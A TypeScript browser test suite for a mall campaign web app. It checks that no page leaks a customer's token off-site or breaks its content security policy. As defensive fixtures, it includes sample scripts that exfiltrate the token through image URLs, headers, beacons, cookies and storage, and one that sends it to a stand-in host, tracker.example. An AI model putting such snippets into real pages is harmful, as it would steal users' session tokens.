import type { Browser } from "playwright-core";
import { describe, expect } from "vitest";
import { PERSONAS } from "../../../campaigns/sandbox/mall/personas.ts";
import { listBlockKinds } from "../../../src/blocks/campaign-context.ts";
import type { Campaign } from "../../../src/language/document.generated.ts";
import { test } from "../../support/browser/browser.ts";
import { untilHydrated } from "../../support/browser/hydrated.ts";
import { withAllKinds } from "../../support/campaigns/all-kinds.ts";
import { note } from "../../support/campaigns/note.ts";
import { site } from "../../support/campaigns/site.ts";
import { allowedAt } from "../../support/wire/allowed-at.ts";
import type { Allowed } from "../../support/wire/judge-sent.ts";
import { markedToken } from "../../support/wire/marked-token.ts";
import { tapAround } from "../../support/wire/tap-around.ts";
import { openWatchedTab, type WatchedTab } from "../../support/wire/watched-tab.ts";

/** All pages, with the types of their blocks and the steps of their actions, which decide what a tap may do. */
const pages = [...site.pages()].map(([key, { published }]) => ({
  route: published.campaign.route ?? `/${key}`,
  kinds: kindsOf(published.campaign),
}));
const customers = ["", ...PERSONAS.map(({ token }) => token)];

function kindsOf(campaign: Campaign): string[] {
  const steps = Object.values(campaign.actions ?? {}).flatMap((action) => action.steps);
  return [...listBlockKinds(campaign), ...steps.flatMap((step) => Object.keys(step))];
}

/** Pages that together contain all kinds of taps. */
const tapped = withAllKinds(pages);

/**
 * Returns whether this customer opens the page and taps everything on it. All pages are observed on their visits
 * (browser/looks), and tapped without a browser. A tap costs a fifth of a second of CPU time, so by default customers
 * take turns on pages with all kinds of taps. WIRE=all taps all pages as every customer, which takes some minutes.
 */
function isTapped(customer: number, page: number): boolean {
  if (process.env.WIRE === "all") return true;
  const turn = tapped.findIndex(({ route }) => route === pages[page]?.route);
  return turn >= 0 && turn % customers.length === customer;
}

/** Number of customers in parallel; each has a browser context. */
const AT_ONCE = 4;

/** Timeout for a machine that runs all tests, and for WIRE=all. */
const PATIENCE_MS = 1_200_000;

/** Returns an address as the native app opens it: at the official host, with the winners' list's signature and the back bar. */
function addressOf(route: string, customer: string): string {
  const token = customer ? { token: markedToken(customer) } : {};
  const query = {
    ...token,
    phoneType: "ios",
    showNav: "true",
    sing: "a",
    timestamp: "1",
    host: "www.mall.example",
  };
  return `${route}?${new URLSearchParams(query)}`;
}

/** Visits a customer's pages and taps controls that are not `known`. Resolves to the number of pages and taps. */
async function goAround(
  tab: WatchedTab,
  customer: string,
  known?: Set<string>,
): Promise<{ opened: number; taps: number }> {
  let opened = 0;
  let taps = 0;
  for (const [index, { route }] of pages.entries()) {
    if (!isTapped(customers.indexOf(customer), index)) continue;
    taps += await tapAround(tab, addressOf(route, customer), known);
    await tab.look();
    opened++;
  }
  return { opened, taps };
}

/** Opens a tab, runs `act` in it, and resolves to its result after the tab is closed and all its requests were seen. */
async function inTab<T>(
  browser: Browser,
  allowed: Allowed & { who: string },
  act: (tab: WatchedTab) => Promise<T>,
): Promise<T> {
  const tab = await openWatchedTab(browser, allowed);
  try {
    return await act(tab);
  } finally {
    await tab.close();
  }
}

/** Runs `act` for all customers, some in parallel. Each uses its own account, so that rewards do not mix. */
async function forAll(act: (customer: string) => Promise<void>): Promise<void> {
  const waiting = [...customers];
  const work = async () => {
    for (let next = waiting.shift(); next !== undefined; next = waiting.shift()) await act(next);
  };
  await Promise.all(Array.from({ length: AT_ONCE }, work));
}

test("no page sends a token to anyone but the mall, requests another origin, or violates its policy", {
  tags: "nightly",
  timeout: PATIENCE_MS,
}, async ({ browser, origin, sandbox }) => {
  const allowed = allowedAt(origin);
  const findings: string[] = [];
  const sums = { opened: 0, taps: 0, requests: 0 };
  const left = new Set<string>();
  const known = process.env.WIRE === "all" ? undefined : new Set<string>();
  await forAll(async (customer) => {
    // Orders, so that there are rewards to claim.
    if (customer) await sandbox.order(customer, 500);
    await inTab(browser, { ...allowed, who: customer || "visitor" }, async (tab) => {
      const { opened, taps } = await goAround(tab, customer, known);
      findings.push(...tab.findings);
      sums.opened += opened;
      sums.taps += taps;
      sums.requests += tab.requests();
      for (const host of tab.left()) left.add(host);
    });
  });
  note(
    `on the wire: ${pages.length} pages × ${customers.length} customers, ${sums.opened} of them opened, ${sums.taps} taps, ${sums.requests} requests, left for ${[...left].join(", ")}`,
  );
  expect(findings).toEqual([]);
  // The sandbox recognised the marked tokens, so the requests are those of logged-in customers.
  const calls = (await sandbox.calls()).filter(({ token }) => token);
  expect(customers).toEqual(expect.arrayContaining(calls.map(({ token }) => token)));
  expect(calls.filter(({ code }) => code === "0").length).toBeGreaterThan(calls.length / 2);
  expect([...left]).toContain("download.mall.example");
});

const OWN = "/campaigns/pages/index.json";

/** Leaks that a page could have, as scripts (`token` is the customer's), with the expected finding. */
const leaks: [name: string, script: string, finding: RegExp][] = [
  ["a picture", `new Image().src = "/a.png?t=" + token`, /a\.png\?t=<token> has a token in its address/],
  [
    "a picture in base64",
    `new Image().src = "/a.png?t=" + btoa("x" + token)`,
    /token in base64 in its address/,
  ],
  [
    "a picture, backwards",
    `new Image().src = "/a.png?t=" + [...token].reverse().join("")`,
    /token backwards in its address/,
  ],
  ["a header", `fetch("${OWN}", { headers: { "x-who": token } })`, /has a token in its header x-who/],
  ["the referrer", `fetch("${OWN}", { referrerPolicy: "unsafe-url" })`, /has a token in its header referer/],
  ["a body", `fetch("${OWN}", { method: "POST", body: token })`, /has a token in its body/],
  [
    "a beacon",
    `navigator.sendBeacon("/beacon", encodeURIComponent(encodeURIComponent(token)))`,
    /POST .*beacon has a token in its body/,
  ],
  [
    "an address of the mall",
    `fetch("/prod-api/a?accessToken=" + encodeURIComponent(token), { method: "POST" })`,
    /prod-api.* has a token in its address/,
  ],
  [
    "the control of the sandbox",
    `fetch("/__sandbox/clock?token=" + encodeURIComponent(token))`,
    /__sandbox\/clock.* has a token in its address/,
  ],
  [
    "a page that is none of the app's",
    `location.assign("/elsewhere?token=" + encodeURIComponent(token))`,
    /elsewhere.* has a token in its address/,
  ],
  [
    "another parameter of a page of the app",
    `location.assign("/paySuccess?from=" + encodeURIComponent(token))`,
    /\?from=<token> has a token in its address/,
  ],
  [
    "a link to another origin",
    `const link = document.body.appendChild(document.createElement("a"));
     link.href = "https://tracker.example/?t=" + token;
     link.click()`,
    /tracker\.example\/\?t=<token> goes to a host that the brand does not name/,
  ],
  [
    "a redirect without a token",
    `location.assign("https://tracker.example/")`,
    /tracker\.example\/ goes to a host that the brand does not name/,
  ],
  ["a cookie", `document.cookie = "a=" + token`, /document\.cookie has a token/],
  ["the storage", `localStorage.a = sessionStorage.a = token`, /(local|session)Storage has a token/],
  ["the title", `document.title = token`, /document\.title has a token/],
  [
    "the address of a link",
    `document.body.appendChild(document.createElement("a")).href = "#" + token`,
    /<a href> has a token/,
  ],
  ["the console", `console.info("who: " + token)`, /console: info who: <token>/],
  [
    "an inline script",
    `document.body.appendChild(document.createElement("script")).text = "1"`,
    /policy: script-src-elem stops inline/,
  ],
  [
    "a frame",
    `document.body.appendChild(document.createElement("iframe")).src = "/paySuccess"`,
    /policy: frame-src stops/,
  ],
  ["an exception", `setTimeout(() => { throw new Error("oh") })`, /exception: Error: oh/],
];

describe("the observer", () => {
  test("reports nothing on a healthy page, and each leak on a leaking page", { tags: "nightly" }, async ({
    browser,
    origin,
  }) => {
    const customer = PERSONAS[0]?.token ?? "";
    const address = addressOf("/paySuccess", customer);
    const allowed = { ...allowedAt(origin), who: customer };
    const unseen = await inTab(browser, allowed, async (tab) => {
      const missed: string[] = [];
      await tab.open(address);
      await tab.look();
      missed.push(...tab.findings);
      for (const [name, script, finding] of leaks) {
        await tab.open(address);
        // React sets the page's title again when it hydrates.
        await untilHydrated(tab.page);
        const before = tab.findings.size;
        await tab.page.evaluate(
          `{ const token = ${JSON.stringify(markedToken(customer))}; ${script}; } undefined`,
        );
        await tab.seen(finding);
        const news = [...tab.findings].slice(before);
        if (!news.some((text) => finding.test(text))) missed.push(`${name}: ${news.join("\n")}`);
      }
      return missed;
    });
    expect(unseen).toEqual([]);
  });
});
